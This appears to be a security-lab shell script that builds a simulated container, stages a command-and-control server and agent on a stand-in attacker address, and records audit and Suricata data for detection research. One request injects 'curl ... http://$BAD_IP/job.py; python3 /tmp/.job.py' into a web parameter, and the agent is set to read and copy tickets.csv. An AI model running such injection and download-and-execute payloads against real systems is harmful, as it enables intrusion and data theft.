#!/bin/bash
# Records the sample container. Run as root on a machine of your own, with nftables; results in /opt/lab/out/container.
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../lib/lab.sh"
lab_begin "$here" node-3 10.20.0.38 ""

# The container's network: behind the host's address, as container engines do it.
BOX_NS=lab-box
ip netns add $BOX_NS
ip -n $HOST_NS link add box0 type veth peer name eth0 netns $BOX_NS
ip -n $HOST_NS addr add 172.20.0.1/24 dev box0; ip -n $HOST_NS link set box0 up
ip -n $BOX_NS link set lo up; ip -n $BOX_NS link set eth0 up
ip -n $BOX_NS addr add 172.20.0.2/24 dev eth0; ip -n $BOX_NS route add default via 172.20.0.1
ip netns exec $BOX_NS sysctl -q net.ipv4.ip_unprivileged_port_start=0
ip netns exec $HOST_NS sysctl -q net.ipv4.ip_forward=1
ip netns exec $HOST_NS nft -f - <<NFT
table ip nat {
  chain in { type nat hook prerouting priority -100; iif eth0 tcp dport 80 dnat to 172.20.0.2:80; }
  chain out { type nat hook postrouting priority 100; ip saddr 172.20.0.0/24 oif eth0 masquerade; }
}
NFT
sample_end() {
  kill -KILL $(ip netns pids $BOX_NS) 2>/dev/null; sleep 1
  ip netns del $BOX_NS
  rm -rf $LAB/box /tmp/.job.py
}

# Its files: an overlay of a small root with the host's /usr.
rm -rf $LAB/box
install -d $LAB/box/{lower/{usr,etc,proc,dev,srv,opt/lab/site},upper,work,root}
install -d -m 1777 $LAB/box/lower/tmp
for link in bin sbin lib lib64; do ln -s usr/$link $LAB/box/lower/$link; done
cp /etc/passwd /etc/group /etc/ld.so.cache $LAB/box/lower/etc/
cp "$here/../no-clone/tickets.py" $LAB/box/lower/srv/
chown www-data $LAB/box/lower/opt/lab/site
install -m 755 "$RUN"/box-*.sh $LAB/bin/

install -d -o $OUT_UID "$RUN/attacker"
lab_agent 8445 who=id list="ls -la /opt/lab/site" take="cat /opt/lab/site/tickets.csv" \
  copy="cp /opt/lab/site/tickets.csv /tmp/.t" > "$RUN/attacker/job.py"
lab_outside python3 "$RUN/c2.py" $BAD_IP 8445 "$RUN/seen.json" 2901313 "LAB MALWARE call home from a container" who list take copy
lab_outside python3 -m http.server --bind $BAD_IP --directory "$RUN/attacker" 80

# As on a host that started not long ago: pids of the host and of the container lie in one range.
echo 500 > /proc/sys/kernel/ns_last_pid
lab_audit_on RAW 500 1
lab_noise_on 3
lab_login bob "while [ ! -e $LAB/stop ]; do echo 'print(sum(range(9)))' > /tmp/.job.py; python3 /tmp/.job.py; sleep 3; rm /tmp/.job.py; done" &
lab_service $LAB/bin/box-start.sh
sleep 4
lab_outside bash "$here/../no-clone/visitors.sh" "$HOST_IP" $VISITOR_IP $BAD_IP
sleep 42
lab_outside curl -s -m 20 --interface $BAD_IP -G "http://$HOST_IP/find" --data-urlencode \
  "word=7; curl -s -o /tmp/.job.py http://$BAD_IP/job.py; python3 /tmp/.job.py & sleep 1"
sleep 16
lab_noise_off
lab_audit_off
python3 "$RUN/sensor.py" suricata "$(ls "$RUN"/seen.json.* | head -1)" "$OUT/alert.json"
